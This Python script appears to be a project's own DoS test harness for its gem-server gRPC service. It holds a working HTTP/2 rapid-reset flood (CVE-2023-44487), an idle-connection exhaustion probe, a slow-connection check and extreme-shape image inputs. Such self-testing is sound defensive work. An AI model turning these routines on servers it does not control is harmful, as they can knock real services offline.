#!/usr/bin/python3
"""Hostile clients below the gRPC API, against a running gem-server (issue 12's probe):

  transport_probe.py rapid-reset ADDRESS STREAMS [PATH]
      HTTP/2 "rapid reset" (CVE-2023-44487) on one connection: STREAMS times a HEADERS
      frame for PATH (default Classify) followed at once by RST_STREAM(CANCEL).
  transport_probe.py idle-connections ADDRESS COUNT SECONDS
      COUNT TCP connections that send nothing, held SECONDS, then closed.
  transport_probe.py connection-lifetimes ADDRESS SECONDS
      How long the server keeps two connections that make no call: one that sends
      nothing, one that sends only the HTTP/2 preface and SETTINGS (watched up to SECONDS).
  transport_probe.py image-shapes ADDRESS
      Classify time (median of 5) of legal PNGs of extreme shapes.

Each prints what it did; watch the server meanwhile (RSS and CPU in /proc/PID/status and
/proc/PID/stat, a Classify from `gem-client classify`). Needs /usr/bin/python3 with
python3-grpcio and python3-pil for image-shapes; run from the repository root.
"""
import io
import resource
import socket
import statistics
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
CLASSIFY = "/gemserve.v1.Inference/Classify"


def host_port(address):
    host, port = address.rsplit(":", 1)
    return host.strip("[]"), int(port)


def frame(kind, flags, stream, payload):
    """One HTTP/2 frame: 24-bit length, type, flags, stream id."""
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(name_index, value):
    """HPACK literal header field without indexing, name from the static table, no Huffman."""
    data = value.encode()
    prefix = bytes([name_index]) if name_index < 15 else bytes([0x0F, name_index - 15])
    return prefix + bytes([len(data)]) + data


def request_headers(path):
    """:method POST, :scheme http, :path, :authority, content-type, te: trailers."""
    return (b"\x83\x86" + literal(4, path) + literal(1, "gem-server") +
            literal(31, "application/grpc") + b"\x00\x02te\x08trailers")


def rapid_reset(address, streams, path=CLASSIFY):
    HEADERS, RST_STREAM, SETTINGS, END_HEADERS, CANCEL = 1, 3, 4, 4, 8
    block = request_headers(path)
    connection = socket.create_connection(host_port(address))
    connection.sendall(PREFACE + frame(SETTINGS, 0, 0, b""))
    connection.setblocking(False)
    start, sent, stream = time.time(), 0, 1
    while sent < streams:
        batch = min(500, streams - sent)
        data = memoryview(b"".join(
            frame(HEADERS, END_HEADERS, stream + 2 * i, block) +
            frame(RST_STREAM, 0, stream + 2 * i, struct.pack(">I", CANCEL)) for i in range(batch)))
        stream, sent = stream + 2 * batch, sent + batch
        while data:
            try:
                data = data[connection.send(data):]
            except BlockingIOError:
                time.sleep(0.001)
            except OSError as error:
                print(f"the server closed the connection after {sent} streams: {error}")
                return
            try:
                while connection.recv(1 << 20):
                    pass
            except (BlockingIOError, OSError):
                pass
    print(f"sent {sent} HEADERS + RST_STREAM pairs for {path} in {time.time() - start:.1f} s")


def idle_connections(address, count, seconds):
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    held = []
    for i in range(count):
        try:
            held.append(socket.create_connection(host_port(address), timeout=2))
        except OSError as error:
            print(f"connection {i} failed: {error}")
            break
    print(f"holding {len(held)} idle connections for {seconds} s", flush=True)
    time.sleep(seconds)
    for connection in held:
        connection.close()
    print("closed them")


def seconds_until_closed(connection, opened, limit):
    """Reads until the server closes `connection`, opened at monotonic time `opened`: the
    seconds it lasted, or None if it is still open `limit` seconds after it was opened."""
    try:
        while True:
            connection.settimeout(max(0.001, opened + limit - time.monotonic()))
            if not connection.recv(65536):
                return time.monotonic() - opened
    except socket.timeout:
        return None


def connection_lifetimes(address, seconds):
    opened = time.monotonic()
    silent = socket.create_connection(host_port(address))
    preface_only = socket.create_connection(host_port(address))
    preface_only.sendall(PREFACE + frame(4, 0, 0, b""))
    for name, connection in (("silent", silent), ("preface only", preface_only)):
        lasted = seconds_until_closed(connection, opened, seconds)
        print(f"{name:12}: " + (f"closed by the server after {lasted:.1f} s" if lasted is not None
                                else f"still open after {seconds:.0f} s"), flush=True)
        connection.close()


def image_shapes(address):
    import grpc
    from PIL import Image
    sys.path.insert(0, "tests/python")
    import gemserve_testing as gt
    pb = gt.inference_pb2()
    classify = grpc.insecure_channel(address).unary_unary(
        CLASSIFY, request_serializer=pb.ClassifyRequest.SerializeToString,
        response_deserializer=pb.ClassifyResponse.FromString)
    for width, height, mode in ((28, 28, "L"), (300, 300, "L"), (2048, 2048, "L"),
                                (2048, 2048, "RGB"), (1, 1000000, "L"), (1000000, 1, "L"),
                                (64, 65500, "L")):
        png = io.BytesIO()
        Image.new(mode, (width, height), 128).save(png, "PNG")
        request = pb.ClassifyRequest(model="resnet20-fashion", variant="gem-n1", image=png.getvalue())
        times = []
        for _ in range(5):
            start = time.perf_counter()
            classify(request, timeout=60)
            times.append(time.perf_counter() - start)
        print(f"{width:>7} x {height:<7} {mode:3} ({len(png.getvalue()):6} B): "
              f"{1e3 * statistics.median(times):7.1f} ms")


def main(argv):
    commands = {"rapid-reset": (rapid_reset, (str, int, str)),
                "idle-connections": (idle_connections, (str, int, float)),
                "connection-lifetimes": (connection_lifetimes, (str, float)),
                "image-shapes": (image_shapes, (str,))}
    if len(argv) < 2 or argv[0] not in commands:
        print(__doc__, file=sys.stderr)
        return 2
    function, types = commands[argv[0]]
    function(*(kind(value) for kind, value in zip(types, argv[1:])))
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
